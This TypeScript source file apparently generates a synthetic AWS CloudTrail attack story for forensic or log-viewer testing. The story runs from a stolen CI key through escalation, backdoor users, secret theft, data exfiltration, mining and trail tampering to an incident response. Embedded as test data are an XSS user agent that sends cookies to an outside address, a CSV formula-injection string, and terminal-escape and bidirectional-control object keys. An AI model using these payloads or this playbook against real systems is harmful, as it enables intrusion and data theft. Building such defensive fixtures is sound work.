import { formatUtc, type UtcMs } from '#shared/base/time.ts'
import { object } from './background.ts'
import { accessKeyId, principalId, resourceId, uuid } from './ids.ts'
import { seededRandom } from './random.ts'
import { arnOf, iamUser, roleSession, type Actor, type Json } from './records.ts'
import { failedLogin, signIn } from './sign-in.ts'
import { allEvents, writesOnly } from './selectors.ts'
import { call, denied, type StoryCall } from './story-call.ts'
import {
  addresses,
  agents,
  assumedRole,
  at,
  backdoorKey,
  backdoorUser,
  chains,
  ciKey,
  consoleUser,
  exportsBucket,
  foreignAccount,
  iamDate,
  later,
  narrowed,
  payments,
  ssoUser,
  stopped,
  workloads,
} from './world.ts'

const administrator = 'arn:aws:iam::aws:policy/AdministratorAccess'
const [usEast, euWest, saEast] = ['us-east-1', 'eu-west-1', 'sa-east-1']

const stolenKey: Actor = {
  identity: iamUser(workloads, 'ci-deploy', ciKey),
  sourceIPAddress: addresses.attacker,
  userAgent: agents.kali,
}
const backdoor: Actor = {
  identity: iamUser(workloads, backdoorUser, backdoorKey),
  sourceIPAddress: addresses.attacker,
  userAgent: agents.kali,
}

/**
 * A role assumed from a role lasts an hour at most, so the attacker comes in again and again: first into PaymentsMaintenance,
 * from there into PaymentsAdmin.
 */
type Entry = { readonly maintenance: UtcMs; readonly admin: UtcMs }
const entries = [
  { maintenance: at('09:26:31'), admin: at('09:31:08') },
  { maintenance: at('10:18:40'), admin: at('10:19:05') },
  { maintenance: at('11:50:10'), admin: at('11:50:33') },
  { maintenance: at('13:16:02'), admin: at('13:16:25') },
] as const satisfies readonly Entry[]
const session = (role: string, created: UtcMs): Actor => ({
  identity: roleSession(payments, role, 'telemetry', { accessKeyId: sessionKey(role, created), created }),
  sourceIPAddress: addresses.attacker,
  userAgent: agents.kali,
})
const sessionKey = (role: string, created: UtcMs): string => accessKeyId('ASIA', `${role} ${created}`)
const adminOf = (entry: Entry): Actor => session('PaymentsAdmin', entry.admin)

/** The attack of the day with all its calls, in the order of time. */
export function storyCalls(): StoryCall[] {
  return [
    ...wayIn(),
    ...reconnaissance(),
    ...privilege(),
    ...persistence(),
    ...secondAccount(),
    ...secrets(),
    ...exfiltration(),
    ...snapshot(),
    ...mining(),
    ...blinding(),
    ...inTheDark(),
    ...response(),
    ...consoleWithoutMfa(),
    ...cleanup(),
  ].sort((a, b) => a.time - b.time)
}

function wayIn(): StoryCall[] {
  return [
    call(at('08:12:07'), workloads, usEast, stolenKey, 'sts', 'GetCallerIdentity', {
      what: 'The access key of ci-deploy, so far used only by the build runner, is used from a foreign address with a Kali command line.',
    }),
    call(
      at('08:12:51'),
      workloads,
      usEast,
      { ...stolenKey, userAgent: `<img src=x onerror="fetch('//203.0.113.66/'+document.cookie)">` },
      'sts',
      'GetCallerIdentity',
      {
        what: 'The user agent carries markup that would run in a careless log viewer.',
      },
    ),
  ]
}

function reconnaissance(): StoryCall[] {
  const probes: [service: string, name: string, action: string | undefined, region?: string, request?: Json][] = [
    ['iam', 'ListUsers', undefined],
    ['iam', 'GetAccountAuthorizationDetails', 'iam:GetAccountAuthorizationDetails'],
    ['iam', 'ListRoles', undefined],
    ['iam', 'GetUser', undefined],
    ['iam', 'ListAttachedUserPolicies', undefined, usEast, { userName: 'ci-deploy' }],
    ['iam', 'ListUserPolicies', undefined, usEast, { userName: 'ci-deploy' }],
    ['iam', 'SimulatePrincipalPolicy', 'iam:SimulatePrincipalPolicy'],
    ['s3', 'ListBuckets', undefined],
    ['secretsmanager', 'ListSecrets', 'secretsmanager:ListSecrets'],
    ['ssm', 'DescribeParameters', 'ssm:DescribeParameters'],
    ['lambda', 'ListFunctions20150331', undefined],
    ['kms', 'ListAliases', 'kms:ListAliases'],
    ['ses', 'GetSendQuota', 'ses:GetSendQuota'],
    ['ses', 'ListIdentities', 'ses:ListIdentities'],
    ['bedrock', 'ListFoundationModels', 'bedrock:ListFoundationModels'],
    ['cloudtrail', 'DescribeTrails', undefined],
    ['guardduty', 'ListDetectors', 'guardduty:ListDetectors'],
    ['organizations', 'ListAccounts', 'organizations:ListAccounts'],
    ['ec2', 'DescribeInstances', undefined],
    ['ec2', 'DescribeInstances', undefined, euWest],
    ['ec2', 'DescribeInstances', undefined, 'eu-central-1'],
    ['ec2', 'DescribeInstances', undefined, saEast],
    ['ec2', 'DescribeSnapshots', 'ec2:DescribeSnapshots'],
    ['ec2', 'DescribeRegions', undefined],
    ['rds', 'DescribeDBInstances', 'rds:DescribeDBInstances'],
    ['iam', 'CreateUser', 'iam:CreateUser', usEast, { userName: 'test' }],
  ]
  return probes.map(([service, name, action, region = usEast, request], i) =>
    call(later(at('08:14:20'), i * 11 + (i % 3)), workloads, region, stolenKey, service, name, {
      ...(request !== undefined && { request }),
      ...(action !== undefined && { error: denied(stolenKey, action) }),
      ...(i === 0 && {
        what: 'A burst of 26 questions in five minutes over 13 services begins; half of them are denied.',
      }),
      ...(name === 'CreateUser' && { what: 'An attempt to create a user is denied.' }),
    }),
  )
}

function privilege(): StoryCall[] {
  return [
    call(at('08:31:16'), workloads, usEast, stolenKey, 'iam', 'AttachUserPolicy', {
      request: { userName: 'ci-deploy', policyArn: administrator },
      what: 'ci-deploy, which was allowed to attach any policy, attaches AdministratorAccess to itself.',
    }),
    call(at('08:32:40'), workloads, usEast, stolenKey, 'secretsmanager', 'ListSecrets', {
      what: 'What was denied before is now allowed.',
    }),
    call(at('08:33:05'), workloads, usEast, stolenKey, 'iam', 'GetAccountAuthorizationDetails', {}),
  ]
}

function persistence(): StoryCall[] {
  const user = {
    path: '/',
    userName: backdoorUser,
    userId: principalId('AIDA', `${workloads} ${backdoorUser}`),
    arn: `arn:aws:iam::${workloads}:user/${backdoorUser}`,
  }
  const request = { userName: backdoorUser }
  return [
    call(at('08:41:03'), workloads, usEast, stolenKey, 'iam', 'CreateUser', {
      request: { ...request, tags: [{ key: 'owner', value: 'platform \u202eyrtemelet\u202c team' }] },
      response: { user: { ...user, createDate: iamDate(at('08:41:03')) } },
      what: `The user ${backdoorUser} is created; its tag hides text with bidirectional controls.`,
    }),
    call(at('08:41:30'), workloads, usEast, stolenKey, 'iam', 'AttachUserPolicy', {
      request: { ...request, policyArn: administrator },
      what: `${backdoorUser} becomes administrator.`,
    }),
    call(at('08:42:12'), workloads, usEast, stolenKey, 'iam', 'CreateAccessKey', {
      request,
      response: {
        accessKey: {
          accessKeyId: backdoorKey,
          status: 'Active',
          userName: backdoorUser,
          createDate: iamDate(at('08:42:12')),
        },
      },
      what: `${backdoorUser} gets an access key.`,
    }),
    call(at('08:42:55'), workloads, usEast, stolenKey, 'iam', 'CreateLoginProfile', {
      request: { ...request, passwordResetRequired: false },
      response: {
        loginProfile: { userName: backdoorUser, createDate: iamDate(at('08:42:55')), passwordResetRequired: false },
      },
      what: `${backdoorUser} gets a console password.`,
    }),
    call(at('08:58:40'), workloads, usEast, backdoor, 'sts', 'GetCallerIdentity', { what: 'The new key is tried.' }),
  ]
}

function secondAccount(): StoryCall[] {
  const [first] = entries
  const maintenance = session('PaymentsMaintenance', first.maintenance)
  const told = [
    `${backdoorUser} assumes PaymentsMaintenance in the payments account.`,
    'The same step, as the payments account recorded it (same sharedEventID).',
    'From there the session assumes PaymentsAdmin: a chain of two roles.',
  ]
  return [
    ...entries.flatMap((entry) => enter(entry).map((c, i) => (entry === first ? { ...c, what: told[i]! } : c))),
    call(at('09:28:02'), payments, usEast, maintenance, 'iam', 'ListRoles', {}),
    call(at('09:28:47'), payments, usEast, maintenance, 'secretsmanager', 'ListSecrets', {
      error: denied(maintenance, 'secretsmanager:ListSecrets'),
    }),
  ]
}

/** One way in, as three records: the first step stands in both accounts. */
function enter(entry: Entry): StoryCall[] {
  const into = assume('PaymentsMaintenance', entry.maintenance)
  const shared = { ...into, sharedEventID: uuid(`into payments ${entry.maintenance}`) }
  const id = principalId('AIDA', `${workloads} ${backdoorUser}`)
  const stranger: Actor = { ...backdoor, identity: { type: 'AWSAccount', principalId: id, accountId: workloads } }
  return [
    call(entry.maintenance, workloads, usEast, backdoor, 'sts', 'AssumeRole', shared),
    call(entry.maintenance, payments, usEast, stranger, 'sts', 'AssumeRole', shared),
    call(
      entry.admin,
      payments,
      usEast,
      session('PaymentsMaintenance', entry.maintenance),
      'sts',
      'AssumeRole',
      assume('PaymentsAdmin', entry.admin),
    ),
  ]
}

function assume(role: string, time: UtcMs): Partial<StoryCall> {
  const arn = `arn:aws:iam::${payments}:role/${role}`
  return {
    request: { roleArn: arn, roleSessionName: 'telemetry', durationSeconds: 3600 },
    response: assumedRole(payments, role, 'telemetry', sessionKey(role, time), formatUtc(later(time, 3600))),
    resources: [{ accountId: payments, type: 'AWS::IAM::Role', ARN: arn }],
  }
}

function secrets(): StoryCall[] {
  const admin = adminOf(entries[0])
  const names = [
    'prod/card-processor/api',
    'prod/ledger/postgres',
    'prod/bank-gateway/sftp',
    'prod/mail/smtp',
    'prod/exports/pgp',
  ]
  const service: Actor = {
    ...admin,
    identity: { ...admin.identity, invokedBy: 'secretsmanager.amazonaws.com' },
    sourceIPAddress: 'secretsmanager.amazonaws.com',
    userAgent: 'secretsmanager.amazonaws.com',
  }
  const key = `arn:aws:kms:us-east-1:${payments}:key/${uuid('secrets key')}`
  return [
    call(at('09:40:02'), payments, usEast, admin, 'secretsmanager', 'ListSecrets', {
      what: 'PaymentsAdmin lists the secrets that were denied to PaymentsMaintenance.',
    }),
    ...names.flatMap((name, i): StoryCall[] => {
      const time = later(at('09:41:10'), i * 47)
      const arn = `arn:aws:secretsmanager:us-east-1:${payments}:secret:${name}-4tYkQ${i}`
      return [
        call(time, payments, usEast, admin, 'secretsmanager', 'GetSecretValue', {
          request: { secretId: arn },
          ...(i === 0 && { what: 'Five secrets are read within four minutes.' }),
        }),
        call(time, payments, usEast, service, 'kms', 'Decrypt', {
          request: {
            encryptionAlgorithm: 'SYMMETRIC_DEFAULT',
            encryptionContext: { SecretARN: arn, SecretVersionId: uuid(`version ${name}`) },
          },
          resources: [{ accountId: payments, type: 'AWS::KMS::Key', ARN: key }],
        }),
      ]
    }),
  ]
}

function exfiltration(): StoryCall[] {
  const copier: Actor = { ...adminOf(entries[1]), sourceIPAddress: addresses.exfiltration, userAgent: agents.rclone }
  const random = seededRandom('exfiltration')
  const hostile = [
    'archive/2025/\u001b[2J\u001b[31mreport\u0007.csv',
    'archive/2025/\u202efdp.stnuocca',
    'archive/2025/kunder-åäö-顧客.csv',
  ]
  const list: Partial<StoryCall> = {
    category: 'Data',
    request: {
      bucketName: exportsBucket,
      'list-type': '2',
      prefix: 'archive/',
      Host: `${exportsBucket}.s3.eu-west-1.amazonaws.com`,
    },
    resources: [{ accountId: payments, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${exportsBucket}` }],
    what: 'The exports bucket is listed from a second address with rclone.',
  }
  const gets = Array.from({ length: 168 }, (_, i): StoryCall => {
    const key = hostile[i - 20] ?? `archive/2025/customers-${String(i).padStart(4, '0')}.csv.gz`
    const get = object(
      later(at('10:22:00'), i * 19 + random.int(0, 9)),
      copier,
      'GetObject',
      key,
      random.int(4_000_000, 64_000_000),
    )
    if (i === 0) return { ...get, what: '168 customer exports are downloaded within an hour.' }
    if (i === 20) return { ...get, what: 'One object key carries terminal control characters.' }
    return get
  })
  return [call(at('10:20:12'), payments, euWest, copier, 's3', 'ListObjects', list), ...gets]
}

function snapshot(): StoryCall[] {
  const admin = adminOf(entries[2])
  const id = resourceId('snap', 'ledger')
  const volume = resourceId('vol', 'ledger')
  const formula: Actor = { ...admin, userAgent: `=cmd|'/C calc.exe'!A0` }
  return [
    call(at('11:52:30'), payments, euWest, admin, 'ec2', 'CreateSnapshot', {
      request: { volumeId: volume, description: 'backup' },
      response: {
        requestId: uuid('create snapshot'),
        snapshotId: id,
        volumeId: volume,
        status: 'pending',
        ownerId: payments,
        volumeSize: '500',
        encrypted: false,
      },
      what: 'A snapshot of the ledger volume is made.',
    }),
    call(at('11:58:03'), payments, euWest, formula, 'ec2', 'DescribeSnapshots', {
      request: { snapshotSet: { items: [{ snapshotId: id }] }, ownersSet: {}, sharedUsersSet: {}, filterSet: {} },
      what: 'The user agent is a spreadsheet formula that would run a program from a careless CSV export.',
    }),
    call(at('12:04:18'), payments, euWest, admin, 'ec2', 'ModifySnapshotAttribute', {
      request: {
        snapshotId: id,
        createVolumePermission: { add: { items: [{ userId: foreignAccount }] } },
        attributeType: 'CREATE_VOLUME_PERMISSION',
      },
      response: { requestId: uuid('share snapshot'), _return: true },
      what: `The snapshot is shared with the foreign account ${foreignAccount}.`,
    }),
    call(
      at('12:09:44'),
      payments,
      euWest,
      {
        identity: { invokedBy: 'ec2.amazonaws.com' },
        sourceIPAddress: 'ec2.amazonaws.com',
        userAgent: 'ec2.amazonaws.com',
      },
      'ec2',
      'SharedSnapshotCopyInitiated',
      {
        type: 'AwsServiceEvent',
        readOnly: false,
        serviceEventDetails: { snapshotId: id, destinationRegion: euWest, requesterAccountId: foreignAccount },
        what: 'The foreign account copies the snapshot.',
      },
    ),
  ]
}

/** RunInstances tried again and again: what Insights notices. */
export const miningStart = at('12:36:00')
function mining(): StoryCall[] {
  const group = resourceId('sg', 'mining')
  const run = (i: number): StoryCall => {
    const ok = i >= 22
    const type = i < 12 ? 'p4d.24xlarge' : i < 22 ? 'g5.12xlarge' : 'c6i.8xlarge'
    return call(later(miningStart, i * 24), workloads, saEast, backdoor, 'ec2', 'RunInstances', {
      request: {
        instancesSet: {
          items: [{ imageId: resourceId('ami', 'mining'), minCount: 4, maxCount: 4, keyName: 'telemetry' }],
        },
        instanceType: type,
        groupSet: { items: [{ groupId: group }] },
        userData: '<sensitiveDataRemoved>',
      },
      ...(ok
        ? {
            response: {
              requestId: uuid(`mining ${i}`),
              ownerId: workloads,
              instancesSet: {
                items: [0, 1, 2, 3].map((n) => ({
                  instanceId: resourceId('i', `mining ${i} ${n}`),
                  instanceType: type,
                  instanceState: { code: 0, name: 'pending' },
                })),
              },
            },
          }
        : {
            error: {
              code: 'Client.VcpuLimitExceeded',
              message:
                'You have requested more vCPU capacity than your current vCPU limit of 0 allows for the instance bucket that the specified instance type belongs to.',
            },
          }),
      ...(i === 0 && { what: 'In sa-east-1, never used before, 24 attempts to start large instances begin.' }),
      ...(i === 22 && { what: 'The first instances run.' }),
    })
  }
  return [
    call(at('12:31:09'), workloads, saEast, backdoor, 'ec2', 'DescribeInstanceTypeOfferings', {}),
    call(at('12:33:27'), workloads, saEast, backdoor, 'ec2', 'CreateSecurityGroup', {
      request: { groupName: 'telemetry', groupDescription: 'telemetry' },
      response: { requestId: uuid('group'), groupId: group, _return: true },
    }),
    call(at('12:34:02'), workloads, saEast, backdoor, 'ec2', 'AuthorizeSecurityGroupIngress', {
      request: {
        groupId: group,
        ipPermissions: {
          items: [
            {
              ipProtocol: 'tcp',
              fromPort: 22,
              toPort: 22,
              groups: {},
              ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] },
              ipv6Ranges: {},
              prefixListIds: {},
            },
          ],
        },
      },
      response: { requestId: uuid('ingress'), _return: true },
      what: 'A security group is opened to the whole internet.',
    }),
    ...Array.from({ length: 24 }, (_, i) => run(i)),
  ]
}

const trailArn = (account: string, region: string): string => {
  const trail = chains.find((c) => c.account === account && c.region === region)
  return `arn:aws:cloudtrail:${trail?.homeRegion ?? region}:${account}:trail/${trail?.trail ?? ''}`
}

const selectors = (selector: Json): Partial<StoryCall> => ({
  request: { trailName: trailArn(payments, usEast), eventSelectors: [selector] },
  response: { trailARN: trailArn(payments, usEast), eventSelectors: [selector] },
})

function blinding(): StoryCall[] {
  const admin = adminOf(entries[3])
  const arn = trailArn(workloads, usEast)
  return [
    call(stopped.from, payments, euWest, admin, 'cloudtrail', 'StopLogging', {
      request: { name: trailArn(payments, euWest) },
      what: 'The trail of payments in eu-west-1 is stopped. Its digest chain ends here.',
    }),
    call(narrowed.from, payments, usEast, admin, 'cloudtrail', 'PutEventSelectors', {
      ...selectors(writesOnly),
      what: 'The trail of payments in us-east-1 is told to leave out reads and KMS: its hours look quiet from here on, and their digests are sound.',
    }),
    call(at('13:24:36'), workloads, usEast, backdoor, 'cloudtrail', 'DeleteTrail', {
      request: { name: arn },
      error: {
        code: 'AccessDenied',
        message: `User: ${arnOf(backdoor)} is not authorized to perform: cloudtrail:DeleteTrail on resource: ${arn} with an explicit deny in a service control policy`,
      },
      what: 'Deleting the trail of the workloads account is denied by a service control policy.',
    }),
  ]
}

/** While the trail was stopped: no log file has these, the downloaded Event history does. */
function inTheDark(): StoryCall[] {
  const admin = adminOf(entries[3])
  const dark = (time: string, service: string, name: string, request: Json, what?: string): StoryCall =>
    call(at(time), payments, euWest, admin, service, name, { request, ...(what !== undefined && { what }) })
  return [
    dark(
      '13:29:51',
      'ssm',
      'GetParametersByPath',
      { path: '/prod/', recursive: true, withDecryption: true },
      'In the dark: all parameters below /prod/ are read with decryption. Only Event history shows it.',
    ),
    dark(
      '13:40:07',
      'rds',
      'CreateDBSnapshot',
      { dBInstanceIdentifier: 'ledger-prod', dBSnapshotIdentifier: 'tmp-ledger' },
      'In the dark: a snapshot of the ledger database is made. Only Event history shows it.',
    ),
    dark(
      '14:02:33',
      'rds',
      'ModifyDBSnapshotAttribute',
      { dBSnapshotIdentifier: 'tmp-ledger', attributeName: 'restore', valuesToAdd: [foreignAccount] },
      'In the dark: that snapshot is shared with the foreign account. Only Event history shows it.',
    ),
    dark('14:12:20', 'rds', 'DeleteDBSnapshot', { dBSnapshotIdentifier: 'tmp-ledger' }),
  ]
}

function response(): StoryCall[] {
  const lind = ssoUser(payments, 'SecurityResponder', 'h.lindqvist', at('14:55:40'), addresses.office)
  return [
    { ...signIn(at('14:55:40'), payments, lind, 'No', 'h.lindqvist') },
    call(at('14:59:12'), payments, usEast, lind, 'cloudtrail', 'DescribeTrails', {}),
    call(stopped.to, payments, euWest, lind, 'cloudtrail', 'StartLogging', {
      request: { name: trailArn(payments, euWest) },
      what: 'h.lindqvist, on call, starts the stopped trail again. A new digest chain begins.',
    }),
    call(narrowed.to, payments, usEast, lind, 'cloudtrail', 'PutEventSelectors', {
      ...selectors(allEvents),
      what: 'The event selectors in us-east-1 are put back.',
    }),
    call(at('15:06:45'), payments, usEast, lind, 'iam', 'PutRolePolicy', {
      request: {
        roleName: 'PaymentsAdmin',
        policyName: 'RevokeOlderSessions',
        policyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Deny',
              Action: '*',
              Resource: '*',
              Condition: { DateLessThan: { 'aws:TokenIssueTime': '2026-02-10T15:06:00Z' } },
            },
          ],
        }),
      },
      what: 'The sessions of PaymentsAdmin are revoked; the user in the other account is not noticed.',
    }),
  ]
}

function consoleWithoutMfa(): StoryCall[] {
  const random = seededRandom('console')
  const from = addresses.attackerSix
  const user = consoleUser(backdoorUser, at('15:31:54'), false, from, agents.firefox)
  const failed = { userName: backdoorUser, from, agent: agents.firefox }
  const looks: [string, string][] = [
    ['ec2', 'DescribeInstances'],
    ['iam', 'ListUsers'],
    ['iam', 'ListAccessKeys'],
    ['ce', 'GetCostAndUsage'],
    ['ec2', 'DescribeInstanceStatus'],
    ['health', 'DescribeEventAggregates'],
  ]
  return [
    { ...failedLogin(at('15:30:22'), random, failed) },
    { ...failedLogin(at('15:31:01'), random, failed) },
    {
      ...signIn(at('15:31:54'), workloads, user, 'No', backdoorUser),
      what: `${backdoorUser} signs in to the console from an IPv6 address, without MFA, after two wrong passwords.`,
    },
    ...looks.map(([service, name], i) =>
      call(later(at('15:33:00'), i * 37), workloads, service === 'ec2' ? saEast : usEast, user, service, name, {}),
    ),
    call(at('15:38:09'), workloads, usEast, user, 'iam', 'UpdateLoginProfile', {
      request: { userName: 'tomas.berg' },
      what: 'From the console, the password of tomas.berg is changed.',
    }),
  ]
}

function cleanup(): StoryCall[] {
  const set = (i: number): Json => ({
    instancesSet: { items: [0, 1, 2, 3].map((n) => ({ instanceId: resourceId('i', `mining ${i} ${n}`) })) },
  })
  return [
    call(at('16:40:12'), workloads, saEast, backdoor, 'ec2', 'TerminateInstances', {
      request: set(22),
      what: 'Cleanup begins: the instances are terminated.',
    }),
    call(at('16:40:40'), workloads, saEast, backdoor, 'ec2', 'TerminateInstances', { request: set(23) }),
    call(at('16:46:03'), workloads, saEast, backdoor, 'ec2', 'DeleteSecurityGroup', {
      request: { groupId: resourceId('sg', 'mining') },
    }),
    call(at('16:52:31'), workloads, usEast, backdoor, 'iam', 'DetachUserPolicy', {
      request: { userName: 'ci-deploy', policyArn: administrator },
      what: 'ci-deploy loses AdministratorAccess again.',
    }),
    call(at('16:58:20'), workloads, usEast, backdoor, 'iam', 'DeleteLoginProfile', {
      request: { userName: backdoorUser },
    }),
    call(at('17:04:49'), workloads, usEast, backdoor, 'iam', 'DeleteAccessKey', {
      request: { userName: backdoorUser, accessKeyId: backdoorKey },
      what: `The last trace: ${backdoorUser} deletes its own access key. The user itself stays.`,
    }),
  ]
}
